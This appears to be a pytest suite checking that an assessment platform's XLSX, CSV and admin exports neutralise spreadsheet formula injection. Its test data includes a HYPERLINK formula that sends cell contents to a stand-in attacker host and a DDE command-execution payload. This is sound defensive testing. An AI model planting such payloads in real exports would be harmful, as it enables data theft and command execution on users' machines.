"""Every XLSX and CSV the product writes is safe to open in Excel: a value that
starts like a formula (= + - @, tab, carriage return) is shown, never run.
Each export is walked with such values; the files are read back as Excel would."""

import csv
import io

import openpyxl
import pytest

from assessments.results.models import Result
from tests.api.helpers import client_for

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1;"нажмите")',
    "+7(900)1234567",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]
STARTS = ("=", "+", "-", "@", "\t", "\r")


def _assert_xlsx_shows_text(data: bytes, expected=HOSTILE):
    """No formula cell; every text that starts like one is marked as text (quote
    prefix) or starts with an apostrophe; and every hostile value is there."""
    book = openpyxl.load_workbook(io.BytesIO(data))
    seen = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and cell.value.startswith(STARTS):
                    assert cell.quotePrefix, (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    seen.append(cell.value.lstrip("'"))
    for value in expected:
        assert any(value.strip() in text for text in seen), value


def _assert_csv_shows_text(text: str, expected=HOSTILE):
    cells = [cell for row in csv.reader(io.StringIO(text), delimiter=";") for cell in row]
    for cell in cells:
        assert not cell.startswith(STARTS), cell
    for value in expected:
        assert "'" + value in cells, value


def test_the_table_writer_keeps_formulas_out():
    from infra.output.xlsx import Column, SheetSpec, table_to_xlsx

    rows = [[value, 1] for value in HOSTILE]
    data = table_to_xlsx([SheetSpec("Лист", [Column("Текст"), Column("Число", "int")], rows)])
    _assert_xlsx_shows_text(data)


def test_analytic_tables_keep_formulas_out():
    from assessments.analytics.export import Column, Table
    from infra.output.xlsx import tables_to_xlsx

    table = Table(
        "Таблица", [Column("Школа"), Column("Доля", "percent")], [[v, 0.5] for v in HOSTILE]
    )
    _assert_xlsx_shows_text(tables_to_xlsx([table]))


def test_the_roadmap_export_keeps_formulas_out(client, world):
    from roadmaps.models import Measure

    measure = world.extra["roadmap_measure_a"]
    Measure.objects.filter(pk=measure.pk).update(
        text=HOSTILE[0], responsible_text=HOSTILE[2], result=HOSTILE[3]
    )
    client.force_login(world.bob)
    roadmap = world.extra["roadmap_roadmap_a"]
    response = client.get(f"/roadmaps/{roadmap.pk}/export.xlsx")
    assert response.status_code == 200
    data = b"".join(response.streaming_content) if response.streaming else response.content
    _assert_xlsx_shows_text(data, expected=[HOSTILE[0], HOSTILE[2], HOSTILE[3]])


def test_the_problems_workbook_keeps_formulas_out_even_those_in_the_sent_file():
    from assessments.results.importers.problems_xlsx import problems_workbook

    book = openpyxl.Workbook()
    book.active.append(["Код", "Балл"])
    book.active.append(["=1+1", '=HYPERLINK("http://evil.example")'])  # formulas as sent
    book.active.append([HOSTILE[1], HOSTILE[3]])
    sent = io.BytesIO()
    book.save(sent)
    problems = [
        {"file": v, "sheet": "Sheet", "row": 3, "column": "Балл", "message": v} for v in HOSTILE
    ]
    data = problems_workbook(source=sent.getvalue(), file_name="итоги.xlsx", problems=problems)
    _assert_xlsx_shows_text(data, expected=[*HOSTILE, "=1+1"])


def test_the_problems_workbook_of_a_csv_keeps_formulas_out():
    from assessments.results.importers.problems_xlsx import problems_workbook

    sent = ("Код;Балл\n" + "\n".join(f"{v.strip()};1" for v in HOSTILE)).encode()
    data = problems_workbook(source=sent, file_name="итоги.csv", problems=[])
    book = openpyxl.load_workbook(io.BytesIO(data))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", cell.value
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(STARTS) or cell.quotePrefix, cell.value


def test_the_results_csv_export_keeps_formulas_out(world):
    result = world.extra["assessments"]["a"]["result"]
    Result.objects.filter(pk=result.pk).update(
        class_name=HOSTILE[3][:20], participant_code=HOSTILE[0], variant=HOSTILE[2][:20]
    )
    response = client_for(world.bob).get("/api/v1/results/export/?as=csv")
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    _assert_csv_shows_text(text, expected=[HOSTILE[3][:20], HOSTILE[0], HOSTILE[2][:20]])


@pytest.mark.parametrize("fmt", ["SafeCSV", "SafeXLSX"])
def test_the_admin_exports_keep_formulas_out(world, fmt):
    from infra.output import admin_formats as export_formats
    from schools.admin import SchoolAdmin, SchoolResource
    from schools.models import School

    School.objects.filter(pk=world.school_a1.pk).update(
        full_name=HOSTILE[0], short_name=HOSTILE[1], address=HOSTILE[3]
    )
    assert {f.__name__ for f in SchoolAdmin.export_formats} == {"SafeCSV", "SafeXLSX"}
    dataset = SchoolResource().export(School.objects.filter(pk=world.school_a1.pk))
    data = getattr(export_formats, fmt)().export_data(dataset)
    expected = [HOSTILE[0], HOSTILE[1], HOSTILE[3]]
    if fmt == "SafeCSV":
        text = data if isinstance(data, str) else data.decode("utf-8")
        rows = list(csv.reader(io.StringIO(text)))
        cells = [cell for row in rows for cell in row]
        assert all(not cell.startswith(STARTS) for cell in cells)
        assert all("'" + value in cells for value in expected)
    else:
        book = openpyxl.load_workbook(io.BytesIO(data))
        cells = [c for row in book.active.iter_rows() for c in row]
        assert all(c.data_type != "f" for c in cells)
        values = {c.value for c in cells}
        assert all("'" + value in values for value in expected)
